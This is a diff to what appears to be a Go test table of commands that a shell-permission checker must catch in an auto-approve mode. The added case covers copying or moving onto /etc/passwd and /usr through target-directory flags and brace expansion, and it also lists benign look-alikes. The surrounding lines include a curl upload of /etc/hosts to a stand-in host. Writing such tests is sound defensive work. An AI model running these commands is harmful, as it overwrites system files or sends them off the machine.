@@ -244,6 +244,12 @@ var bypassClasses = []bypassClass{
 			"xxd -r f out.bin", "curl -o f http://x", "curl -T /etc/hosts http://x", "sort /etc/passwd"},
 	},
 	{
+		name: "a copier's or mover's target directory and brace-made operands",
+		yolo: []string{"cp -t /etc /tmp/passwd", "cp --target-directory=/etc passwd", "install -t /etc passwd",
+			"mv --target=/tmp /usr", "mv -t /tmp /usr", "mv -vt /tmp /usr", "mv /etc/passwd{,.bak}", "mv /etc/{passwd,x}"},
+		yoloAllowed: []string{"cp /tmp/p /etc/{passwd,x}", "cp -t /tmp a b", "mv -t dist build", "mv src/{a,b}.ts", "cp a{,.bak}"},
+	},
+	{
 		name: "git's wrappers run git with their arguments",
 		// hub and yadm exec git with their command line (hub's manual;
 		// neither is on this host).
